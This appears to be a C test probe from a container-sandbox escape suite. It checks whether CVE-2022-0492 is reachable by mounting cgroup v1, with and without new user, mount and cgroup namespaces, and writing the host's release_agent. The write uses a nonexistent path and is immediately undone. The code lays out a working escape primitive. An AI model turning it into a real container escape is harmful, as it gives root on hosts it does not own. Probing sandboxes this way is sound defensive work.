// CVE-2022-0492: mount a cgroup v1 hierarchy and write its release_agent,
// which the kernel runs as root on the host. First directly, then from a new
// user + mount + cgroup namespace (where the mount itself is allowed). A
// successful write is undone at once, and names a path that does not exist.
#define _GNU_SOURCE
#include "report.h"
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int writeFile(const char *path, const char *s) {
	int fd = open(path, O_WRONLY);
	if (fd < 0) return -1;
	int n = write(fd, s, strlen(s));
	int e = errno;
	close(fd);
	errno = e;
	return n < 0 ? -1 : 0;
}

static int lastErr;

static void attempt(const char *dir, const char *how) {
	mkdir(dir, 0755);
	const char *controllers[] = {"memory", "rdma", "pids", NULL};
	for (int i = 0; controllers[i]; i++) {
		char what[128];
		snprintf(what, sizeof what, "%s: mount -t cgroup -o %s", how, controllers[i]);
		if (mount("cgroup", dir, "cgroup", 0, controllers[i])) {
			lastErr = errno;
			step(what, 0, errno);
			continue;
		}
		step(what, 1, 0);
		char path[256], old[4096] = "";
		snprintf(path, sizeof path, "%s/release_agent", dir);
		int fd = open(path, O_RDONLY);
		if (fd >= 0) {
			int n = read(fd, old, sizeof old - 1);
			old[n > 0 ? n : 0] = 0;
			close(fd);
		}
		if (writeFile(path, "/berth-escape-test-no-such-agent") == 0) {
			writeFile(path, old[0] ? old : "\n");
			escaped("wrote the host's cgroup v1 release_agent");
		}
		lastErr = errno;
		snprintf(what, sizeof what, "%s: write %s/release_agent", how, controllers[i]);
		step(what, 0, errno);
		umount(dir);
	}
}

int main(void) {
	attempt("/tmp/cg-direct", "directly");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
		step("unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP)", 0, errno);
		blocked("mount cgroup v1 / unshare", lastErr);
	}
	step("unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP)", 1, 0);
	writeFile("/proc/self/setgroups", "deny");
	writeFile("/proc/self/uid_map", "0 0 1");
	writeFile("/proc/self/gid_map", "0 0 1");
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	attempt("/tmp/cg-userns", "in a new user namespace");
	blocked("write release_agent", lastErr);
}
